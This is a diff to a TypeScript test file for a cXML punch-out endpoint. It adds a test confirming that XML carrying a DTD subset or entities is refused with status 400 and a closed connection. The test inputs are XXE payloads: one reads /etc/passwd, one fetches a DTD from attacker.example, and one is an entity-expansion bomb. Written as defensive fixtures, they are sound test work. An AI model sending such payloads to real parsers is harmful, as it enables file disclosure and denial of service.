@@ -7,6 +7,7 @@ import { describe, expect, it } from 'vitest';
 import { principalOf, unitGateway } from '../testing/unit.ts';
 import { erpFieldUser } from '../testing/erp-answers/field-user.ts';
 import { handlePunchOut } from './entry.ts';
+import { DTD_REFUSED } from './cxml.ts';
 import { SYSTEM, TRANSFER, setupRequest, xml, type Form, type Status } from './field-testing.ts';
 
 type Answer = { status: number; headers: Record<string, string>; body: string };
@@ -22,8 +23,12 @@ const postSetup = async (body: string) => {
   }) as unknown as IncomingMessage;
   const answer: Answer = { status: 0, headers: {}, body: '' };
   const response = {
+    setHeader(name: string, value: string) {
+      answer.headers[name] = value;
+      return response;
+    },
     writeHead(status: number, headers: Record<string, string>) {
-      Object.assign(answer, { status, headers });
+      Object.assign(answer, { status, headers: { ...answer.headers, ...headers } });
       return response;
     },
     end(text: string) {
@@ -35,7 +40,7 @@ const postSetup = async (body: string) => {
   const parsed = xml.parse(answer.body) as {
     cXML: { Response: { Status: Status; PunchOutSetupResponse?: unknown } };
   };
-  return { status: answer.status, response: parsed.cXML.Response, erpCalls: gateway.calls };
+  return { status: answer.status, response: parsed.cXML.Response, erpCalls: gateway.calls, headers: answer.headers };
 };
 
 describe('cXML punch-out', () => {
@@ -75,5 +80,32 @@ describe('who may transfer', () => {
     expect(own.form).toBeNull();
     const guest = await unitGateway({}, { principal: null });
     expect((await guest.run(TRANSFER)).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
+  });
+});
+
+describe('cXML parsing', () => {
+  it("refuses a document that declares entities or a DTD subset (400, connection closed), reading cXML's own DOCTYPE", async () => {
+    const withSubset = (subset: string) =>
+      setupRequest().replace(
+        '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">',
+        `<!DOCTYPE cXML [${subset}]>`,
+      );
+    for (const body of [
+      withSubset('<!ENTITY xxe SYSTEM "file:///etc/passwd">').replace('<BuyerCookie>', '<BuyerCookie>&xxe;'),
+      withSubset('<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;'),
+      withSubset('<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'),
+      withSubset(''),
+    ]) {
+      const refused = await postSetup(body);
+      expect([refused.status, refused.response.Status['@_code'], refused.response.Status['#text']]).toEqual([
+        400,
+        '400',
+        DTD_REFUSED,
+      ]);
+      expect(refused.headers.connection).toBe('close');
+      expect(refused.erpCalls).toEqual([]);
+    }
+    // cXML's own DOCTYPE names the DTD by URL (never fetched) and passes: this one fails later, on its secret.
+    expect((await postSetup(setupRequest({ secret: 'guess' }))).status).toBe(401);
   });
 });
